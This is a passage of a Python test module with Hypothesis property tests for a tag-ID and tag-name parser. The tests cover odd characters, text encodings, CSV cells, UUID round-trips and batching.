    "cancel", "?", "\u200b", "\ufeff", "\xa0", "=", "+", "-", "@", "#", "x", "g", "0", "`", "<", ">", "Spring Promo",
    "tag_id", "name", "\x00", "é",
]
structured_text = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
any_text = st.one_of(st.text(max_size=300), structured_text)
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"]
structured_bytes = st.builds(
    lambda text, encoding: text.encode(encoding, errors="replace"), structured_text, st.sampled_from(ENCODINGS)
)
FILENAMES = ["a.csv", "a.txt", "a.tsv", "a", "a.xlsx", ".csv", "A.CSV"]


@PROPERTY
@given(any_text)
def test_parse_command_never_raises_anything_but_input_error(text: str) -> None:
    try:
        command = parse_command(text)
    except InputError:
        return
    assert command.kind in {"help", "status", "list", "cancel", "modal", "request", "unknown"}
    assert (command.selection is not None) == (command.kind == "request")


@PROPERTY
@given(any_text, st.integers(min_value=1, max_value=5))
def test_parse_text_never_raises_anything_but_input_error(text: str, max_entries: int) -> None:
    try:
        selection = parse_text(text, max_entries=max_entries)
    except InputError as error:
        assert error.message.startswith("The list has ")
        return
    assert all(tags._UUID_RE.fullmatch(tag_id) and tag_id == tag_id.lower() for tag_id in selection.ids)
    assert all(name == name.strip() and name for name in selection.names)
    assert all(len(junk.text) <= 60 for junk in selection.junk)


@PROPERTY
@given(
    st.one_of(st.binary(max_size=400), structured_bytes),
    st.sampled_from(FILENAMES),
    st.integers(min_value=1, max_value=600),
)
def test_parse_file_never_raises_anything_but_input_error(data: bytes, filename: str, max_bytes: int) -> None:
    try:
        selection = parse_file(data, filename=filename, max_bytes=max_bytes, max_entries=3)
    except InputError as error:
        assert error.message
        return
    assert selection.entry_count <= 3
    assert all(tags.quote_for_slack(junk.text).count("`") == 2 for junk in selection.junk)


separators = st.lists(st.sampled_from([" ", ",", ";", "\t", "\n", "\r\n", ", ", " ;\n", "\xa0", "\u200b "]), min_size=1)


@PROPERTY
@given(st.lists(st.uuids(version=4), max_size=30), st.data())
def test_ids_joined_by_any_separators_round_trip(ids: list[uuid.UUID], data: st.DataObject) -> None:
    spellings = [data.draw(st.sampled_from([str(u), str(u).upper(), f"{{{u}}}", f"urn:uuid:{u}"])) for u in ids]
    text = "".join(spelling + "".join(data.draw(separators)) for spelling in spellings)
    selection = parse_text(text)
    expected = tuple(dict.fromkeys(str(u) for u in ids))
    assert selection == Selection(ids=expected, duplicates=len(ids) - len(expected))


@PROPERTY
@given(st.lists(st.uuids(version=4), min_size=1, max_size=30), st.sampled_from(ENCODINGS), st.booleans())
def test_ids_in_a_file_round_trip(ids: list[uuid.UUID], encoding: str, header: bool) -> None:
    lines = (["tag_id"] if header else []) + [str(u) for u in ids]
    data = "\r\n".join(lines).encode(encoding)
    expected = tuple(dict.fromkeys(str(u) for u in ids))
    assert parse_file(data, filename="ids.csv").ids == expected


name_text = st.text(st.characters(blacklist_characters="\\\r\n"), min_size=1, max_size=20)


@PROPERTY
@given(st.lists(name_text, max_size=10), st.sampled_from([" ", ",", ";", "\t", "\n", ", "]))
def test_quoted_names_round_trip(names: list[str], separator: str) -> None:
    selection = parse_text(separator.join('"' + name.replace('"', '""') + '"' for name in names))
    expected: dict[str, str] = {}
    for name in names:
        trimmed = tags._trim(name)
        if trimmed:
            expected.setdefault(tags.name_key(trimmed), trimmed)
    assert selection.names == tuple(expected.values())
    assert selection.ids == ()
    assert all(junk.reason == "empty name" for junk in selection.junk)


@PROPERTY
@given(
    st.lists(st.sampled_from(ACCOUNT), max_size=6),
    st.lists(st.sampled_from(["promo", "Summer", "nope", "spring promo 2024", "café"]), max_size=5),
    st.lists(st.uuids(), max_size=3),
)
def test_resolution_accounts_for_every_entry(
    chosen: list[AccountTag], names: list[str], unknown: list[uuid.UUID]
) -> None:
    ids = tuple(dict.fromkeys([tag.tag_id.lower() for tag in chosen] + [str(u) for u in unknown]))
    selection = Selection(ids=ids, names=tuple(dict.fromkeys(names)))
    resolution = resolve(selection, ACCOUNT)
    assert resolve(selection, TagIndex.of(ACCOUNT)) == resolution
    accounted = (
        len(resolution.tags) + len(resolution.unknown_ids) + len(resolution.unknown_names)
        + len(resolution.ambiguous) + resolution.duplicates
    )
    assert accounted == selection.entry_count
    assert not {PROMO.tag_id, PROMO_UPPER.tag_id} & {tag.tag_id for tag in resolution.tags if tag.matched_by == "name"}
    assert len(set(resolution.tag_ids)) == len(resolution.tag_ids)


ID_CELLS = [U1, U4.upper()]
CSV_CELLS = [*ID_CELLS, "", " ", "Promo", "=1", "#", '"a,b"', "x y"]
csv_rows = st.lists(st.lists(st.sampled_from(CSV_CELLS), min_size=1, max_size=3), min_size=1, max_size=8)


@PROPERTY
@given(csv_rows, st.sampled_from(["", "tag_id\n"]))
def test_plain_and_braced_ids_parse_alike(rows: list[list[str]], header: str) -> None:
    def parsed(spell: dict[str, str]) -> object:
        text = header + "\n".join(",".join(spell.get(cell, cell) for cell in row) for row in rows)
        try:
            selection = parse_file(text.encode(), filename="a.csv", max_entries=100)
        except InputError as error:
            return error.message
        return selection.ids, selection.names, selection.duplicates, [(j.line, j.reason) for j in selection.junk]

    assert parsed({}) == parsed({cell: f"{{{cell}}}" for cell in ID_CELLS})


@PROPERTY
@given(st.lists(st.text(max_size=3), max_size=50), st.integers(min_value=1, max_value=7))
def test_batches_property(ids: list[str], size: int) -> None:
    result = batches(ids, size)
    assert [tag_id for batch in result for tag_id in batch] == ids
    assert all(1 <= len(batch) <= size for batch in result)
    assert all(len(batch) == size for batch in result[:-1])
